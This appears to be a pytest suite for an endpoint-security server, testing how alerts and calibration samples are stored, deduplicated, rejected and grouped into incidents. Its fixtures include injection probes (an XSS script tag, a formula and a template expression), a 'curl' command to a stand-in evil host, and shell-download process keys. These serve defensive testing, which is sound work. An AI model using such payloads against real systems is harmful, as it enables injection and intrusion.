"""Telemetry: good alerts stored once with their incident, bad ones named, nothing half done."""

import threading

import msgspec
import pytest
import sqlalchemy as sa

from eguard.clock import SimulatedClock
from eguard.detection.alert import Alert, BeaconEvidence, Contribution, MatchedRule
from eguard.detection.feature_contract import FEATURE_NAMES, contract_sha256
from eguard.fleet.tables import calibration_sample, endpoint_event, incident
from eguard.server.principal import Principal, Role
from eguard.server.services import calibration_samples
from eguard.server.services.alert_rows import search_text
from eguard.server.services.events import Events
from eguard.server.services.whitelist import Whitelist
from eguard.server.services.whitelist_values import WhitelistRequest
from eguard.wire.telemetry import CalibrationBatch, CalibrationSample, TelemetryBatch, TelemetryRejection

NOW = 1_772_000_000.0
ADMIN = Principal("ada", Role.ADMIN)
HOSTILE = "\x1b[31m<script>alert(1)</script>=cmd()|{{7*7}}"


@pytest.fixture
def events(fleet):
    return Events(fleet, SimulatedClock(NOW))


def alert(alert_id, **changes):
    values = {
        "alert_id": alert_id,
        "host_id": "a1",
        "observed_at_unix": NOW - 60.0,
        "event_class": "process_exec",
        "process_key": "curl:sh",
        "confidence": "high",
        "response": "alert_only",
        "reasons": ("rule",),
        "rules": (MatchedRule("r1", "Download by a shell", "high", "somebody", ("attack.t1105",)),),
    }
    return msgspec.json.decode(Alert(**(values | changes)).to_json())


def batch(*alerts, agent_id="a1"):
    return TelemetryBatch(agent_id=agent_id, batch_id="b1", alerts=list(alerts))


def rows(fleet, table=endpoint_event):
    with fleet.read() as connection:
        key = next(iter(table.primary_key.columns))
        return connection.execute(sa.select(table).order_by(key)).all()


def test_an_alert_is_stored_with_what_it_says(fleet, events):
    body = alert(
        "e1",
        score=0.75,
        p_value=0.002,
        model_version="m7",
        contributions=(Contribution("entropy", 3.5, 1.25),),
        command_line="curl http://Evil.example",
    )
    answer = events.take("a1", batch(body))
    assert (answer.accepted, answer.duplicate, answer.rejected) == (1, 0, [])
    (row,) = rows(fleet)
    assert (row.event_id, row.agent_id, row.severity, row.rule_id) == ("e1", "a1", "high", "r1")
    assert (row.score, row.p_value, row.model_version) == (0.75, 0.002, "m7")
    assert row.features == {"entropy": 3.5}
    assert row.detail == body
    assert (row.observed_at, row.received_at) == (NOW - 60.0, NOW)
    assert "http://evil.example" in row.search_text
    assert row.suppressed_by is None


def test_a_whole_feature_row_has_a_column_of_its_own(fleet, events):
    row = tuple(place / 100.0 for place in range(len(FEATURE_NAMES)))
    whole = alert("e1", features=row, feature_contract=contract_sha256(), signal="rule-9")
    foreign = alert("e2", features=row, feature_contract="0" * 64, contributions=(Contribution("entropy", 3.5, 1.25),))
    events.take("a1", batch(whole, foreign))
    first, second = rows(fleet)
    assert first.features == dict(zip(FEATURE_NAMES, row, strict=True))
    assert "features" not in first.detail
    assert first.rule_id == "rule-9"
    assert second.features == {"entropy": 3.5}
    assert second.detail == foreign


def test_features_that_no_database_would_store_are_refused(events):
    answer = events.take("a1", batch(alert("e1", features=(0.5,) * 257)))
    assert [rejection.code for rejection in answer.rejected] == ["invalid_features"]


def test_an_alert_without_a_rule_is_named_by_what_fired(fleet, events):
    events.take("a1", batch(alert("e1", rules=(), reasons=("window far from its baseline", "rare"))))
    assert rows(fleet)[0].rule_id == "window far from its baseline; rare"
    assert rows(fleet)[0].features is None


def test_what_arrives_twice_is_stored_once(fleet, events):
    first = events.take("a1", batch(alert("e1"), alert("e2"), alert("e1")))
    assert (first.accepted, first.duplicate) == (2, 1)
    again = events.take("a1", batch(alert("e1"), alert("e2"), alert("e3")))
    assert (again.accepted, again.duplicate) == (1, 2)
    assert [row.event_id for row in rows(fleet)] == ["e1", "e2", "e3"]
    assert rows(fleet, incident)[0].alerts == 3


def test_another_agents_id_is_refused_and_its_alert_kept(fleet, events):
    events.take("a1", batch(alert("e1")))
    answer = events.take("a2", batch(alert("e2"), alert("e1"), agent_id="a2"))
    assert answer.accepted == 1
    assert [(rejection.index, rejection.code) for rejection in answer.rejected] == [(1, "event_id_taken")]
    assert {row.event_id: row.agent_id for row in rows(fleet)} == {"e1": "a1", "e2": "a2"}


BAD = {
    "unknown_field": {"colour": "red"},
    "invalid_alert": {"score": "high"},
    "invalid_alert_id": {"alert_id": "a\nb"},
    "invalid_time": {"observed_at_unix": 1e300},
    "unknown_class": {"event_class": "lunch"},
    "unknown_confidence": {"confidence": "none"},
    "invalid_process_key": {"process_key": "bash"},
    "invalid_number": {"p_value": float("nan")},
    "invalid_rule_id": {"rules": [{"rule_id": "r" * 256, "title": "", "level": "", "author": "", "techniques": []}]},
    "out_of_range": {"pid": -1},
}


@pytest.mark.parametrize("code", sorted(BAD))
def test_a_bad_alert_is_named_and_the_good_ones_beside_it_are_stored(fleet, events, code):
    answer = events.take("a1", batch(alert("e1"), alert("e2") | BAD[code], alert("e3")))
    assert answer.accepted == 2
    assert [(rejection.index, rejection.code) for rejection in answer.rejected] == [(1, code)]
    assert [row.event_id for row in rows(fleet)] == ["e1", "e3"]


def test_rejections_of_both_kinds_come_in_the_order_of_the_batch(fleet, events):
    events.take("a2", batch(alert("e1"), agent_id="a2"))
    answer = events.take("a1", batch(alert("e0") | {"pid": -1}, alert("e1"), alert("e3") | {"pid": -1}))
    assert [(rejection.index, rejection.code) for rejection in answer.rejected] == [
        (0, "out_of_range"),
        (1, "event_id_taken"),
        (2, "out_of_range"),
    ]
    assert all(isinstance(rejection, TelemetryRejection) for rejection in answer.rejected)


def test_hostile_names_are_stored_as_they_are(fleet, events):
    beacon = BeaconEvidence(HOSTILE, 1.0, 1.0, 1.0, 0.5, 60.0, 100, is_confirmed=True)
    events.take("a1", batch(alert("e1", command_line=HOSTILE, target=HOSTILE, host_id=HOSTILE, beacon=beacon)))
    (row,) = rows(fleet)
    assert row.detail["command_line"] == row.detail["host_id"] == row.detail["beacon"]["destination"] == HOSTILE
    assert "<script>alert(1)</script>=cmd()|{{7*7}}" in row.search_text
    assert "\x1b" not in row.search_text


def test_every_sign_that_json_can_carry_is_stored_and_given_back(fleet, events):
    odd = "\x00 \x85 \u2028 \U0001f600 e\u0301 \u202e \ufffe \\ ' \" ` %s {0}"
    rule = MatchedRule("id \U0001f600", odd, "high", odd, (odd,), ((odd, odd),))
    answer = events.take(
        "a1", batch(alert("\U0001f600 id", rules=(rule,), command_line=odd, process_key="\U0001f600:%00"))
    )
    assert answer.rejected == []
    (row,) = rows(fleet)
    assert (row.event_id, row.rule_id, row.process_key) == ("\U0001f600 id", "id \U0001f600", "\U0001f600:%00")
    assert row.detail["rules"][0]["matched_fields"] == [[odd, odd]]
    assert rows(fleet, incident)[0].title == f"{odd}: \U0001f600:%00"


def test_the_longest_alert_that_a_body_can_carry_is_stored(fleet, events):
    long = "\U0001f600" * 8192
    fields = tuple((f"field {index}", long) for index in range(20))
    rules = (MatchedRule("r" * 255, long, long, long, (long,), fields),)
    body = alert("e" * 128, rules=rules, command_line=long, target=long, reasons=(long,), ancestors=(long,) * 4)
    assert events.take("a1", batch(body)).accepted == 1
    assert rows(fleet)[0].detail == body


def test_the_searched_text_is_bounded():
    long = msgspec.convert(alert("e1", ancestors=tuple(f"{index:08d}" for index in range(20_000))), Alert)
    assert len(search_text(long, "a1")) == 65_536


def test_alerts_of_one_rule_or_one_tree_within_an_hour_are_one_incident(fleet, events):
    other_rule = (MatchedRule("r2", "Other", "low", "somebody", ()),)
    events.take(
        "a1",
        batch(
            alert("e1", ancestors=("sh", "nginx", "systemd"), confidence="medium"),
            alert("e2", process_key="wget:bash", observed_at_unix=NOW - 30.0),  # the rule of e1
            alert("e3", process_key="nc:sh", rules=other_rule, ancestors=("sh", "nginx", "systemd")),  # e1's root
            alert("e4", process_key="vim:bash", rules=other_rule[:0], reasons=("drift",), confidence="low"),
        ),
    )
    stored = {row.event_id: row.incident_id for row in rows(fleet)}
    assert stored["e1"] == stored["e2"] == stored["e3"] != stored["e4"]
    found = {row.incident_id: row for row in rows(fleet, incident)}
    first = found[stored["e1"]]
    assert (first.alerts, first.severity, first.status) == (3, "high", "open")
    assert (first.first_at, first.last_at) == (NOW - 60.0, NOW - 30.0)
    assert first.title == "Other: nc:sh"
    assert "root:nginx:systemd" in first.grouping["marks"]
    assert found[stored["e4"]].title == "drift: vim:bash"


def test_an_hour_later_another_incident_begins(fleet):
    clock = SimulatedClock(NOW)
    events = Events(fleet, clock)
    events.take("a1", batch(alert("e1", observed_at_unix=NOW)))
    clock.advance_to(NOW + 3600.0)
    events.take("a1", batch(alert("e2", observed_at_unix=NOW + 3600.0)))
    clock.advance_to(NOW + 7200.5)
    events.take("a1", batch(alert("e3", observed_at_unix=NOW + 7200.5)))
    stored = {row.event_id: row.incident_id for row in rows(fleet)}
    assert stored["e1"] == stored["e2"] != stored["e3"]


def test_another_host_is_another_incident(fleet, events):
    events.take("a1", batch(alert("e1")))
    events.take("a2", batch(alert("e2"), agent_id="a2"))
    assert len({row.incident_id for row in rows(fleet)}) == 2


def test_a_closed_incident_takes_no_more_alerts(fleet, events):
    events.take("a1", batch(alert("e1")))
    with fleet.write() as connection:
        connection.execute(sa.update(incident).values(status="closed"))
    events.take("a1", batch(alert("e2")))
    assert sorted((row.status, row.alerts) for row in rows(fleet, incident)) == [("closed", 1), ("open", 1)]


def test_a_clock_ten_years_ahead_neither_fails_nor_joins_what_lies_far(fleet, events):
    events.take("a1", batch(alert("e1", observed_at_unix=NOW + 3.2e8), alert("e2", observed_at_unix=NOW - 3.2e8)))
    stored = {row.event_id: row for row in rows(fleet)}
    assert stored["e1"].observed_at == NOW + 3.2e8
    assert stored["e1"].incident_id != stored["e2"].incident_id
    assert max(row.last_at for row in rows(fleet, incident)) == NOW


def test_what_the_whitelist_silences_is_stored_marked_and_grouped_apart(fleet, events):
    entry = Whitelist(fleet, SimulatedClock(NOW)).create(
        ADMIN, WhitelistRequest(kind="process_key", value="curl:sh", scope="group", scope_id="web", reason="deploy")
    )
    events.take("a1", batch(alert("e1"), alert("e2", process_key="wget:sh")))
    stored = {row.event_id: row for row in rows(fleet)}
    assert stored["e1"].suppressed_by == entry["entry_id"]
    assert stored["e2"].suppressed_by is None
    assert sorted(row.status for row in rows(fleet, incident)) == ["open", "suppressed"]


def test_batches_that_arrive_together_are_stored_once_and_grouped_once(fleet, events):
    start = threading.Barrier(6)
    answers = []

    def send(number):
        start.wait()
        for part in range(4):
            ids = range(part * 10, part * 10 + 10)
            answers.append(events.take(f"a{number % 2 + 1}", batch(*(alert(f"{number % 2}-{index}") for index in ids))))

    threads = [threading.Thread(target=send, args=(number,)) for number in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sum(answer.accepted for answer in answers) == 80
    assert sum(answer.duplicate for answer in answers) == 160
    assert len(rows(fleet)) == 80
    assert sorted((row.agent_id, row.alerts) for row in rows(fleet, incident)) == [("a1", 40), ("a2", 40)]


def test_an_agent_that_has_no_row_yet_is_heard(fleet, events):
    assert events.take("newcomer", batch(alert("e1"), agent_id="newcomer")).accepted == 1


def test_a_batch_without_a_good_alert_is_answered_without_the_database(events):
    assert events.take("a1", batch({"alert_id": "e1"})).rejected[0].code == "invalid_alert"
    assert events.take("a1", batch()).accepted == 0


def sample(sample_id, **changes):
    values = {
        "sample_id": sample_id,
        "event_class": "dns_query",
        "features": [0.5] * 43,
        "contract_hash": "ab" * 32,
        "observed_at_unix": NOW,
    }
    return CalibrationSample(**(values | changes))


def test_calibration_samples_are_stored_once_and_bad_ones_named(fleet, events):
    def samples(*all_of_them, agent_id="a1"):
        return CalibrationBatch(agent_id=agent_id, batch_id="b", samples=list(all_of_them))

    bad = sample("s3", contract_hash="zz" * 32), sample("s4", features=[float("inf")] * 43)
    answer = events.take_samples("a1", samples(sample("s1"), sample("s1"), *bad))
    assert (answer.accepted, answer.duplicate) == (1, 1)
    assert [(one.index, one.code) for one in answer.rejected] == [(2, "invalid_contract"), (3, "invalid_number")]
    other = events.take_samples("a2", samples(sample("s1"), sample("s2"), agent_id="a2"))
    assert (other.accepted, [one.code for one in other.rejected]) == (1, ["sample_id_taken"])
    assert [(row.sample_id, row.agent_id) for row in rows(fleet, calibration_sample)] == [("s1", "a1"), ("s2", "a2")]
    assert rows(fleet, calibration_sample)[0].features == [0.5] * 43


def test_a_sample_is_stored_with_who_scored_it_and_when_it_came(fleet, events):
    whole = sample(
        "s1", signal="rule-7", score=0.25, model_digest="c" * 64, event_id="e1", event_class="uncounted",
        observed_at_unix=NOW + 86_400.0,
    )  # fmt: skip
    events.take_samples("a1", CalibrationBatch(agent_id="a1", batch_id="b", samples=[whole]))
    (row,) = rows(fleet, calibration_sample)
    assert (row.signal, row.score, row.model_digest, row.event_id) == ("rule-7", 0.25, "c" * 64, "e1")
    assert (row.event_class, row.observed_at, row.received_at) == ("uncounted", NOW, NOW)  # its clock runs ahead


@pytest.mark.parametrize("value", [-0.001, 1.001, float("nan"), float("-inf")])
def test_features_of_this_release_are_shares(events, value):
    features = [0.5] * 42 + [value]
    one = sample("s1", features=features, contract_hash=contract_sha256())
    answer = events.take_samples("a1", CalibrationBatch(agent_id="a1", batch_id="b", samples=[one]))
    assert [each.code for each in answer.rejected] == ["invalid_number"]


def test_no_agent_adds_more_in_a_day_than_its_share(fleet, monkeypatch):
    clock = SimulatedClock(NOW)
    events = Events(fleet, clock)
    monkeypatch.setattr(calibration_samples, "MAX_SAMPLES_A_DAY", 5)

    def send(agent_id, *numbers):
        given = [sample(f"{agent_id}-{number}") for number in numbers]
        answer = events.take_samples(agent_id, CalibrationBatch(agent_id=agent_id, batch_id="b", samples=given))
        return answer.accepted, answer.duplicate, [each.code for each in answer.rejected]

    assert send("a1", 0, 1, 2) == (3, 0, [])
    assert send("a1", 2, 3, 4, 5) == (2, 1, ["too_many"])
    assert send("a2", 0) == (1, 0, [])
    clock.advance_to(NOW + 86_401.0)
    assert send("a1", 5) == (1, 0, [])
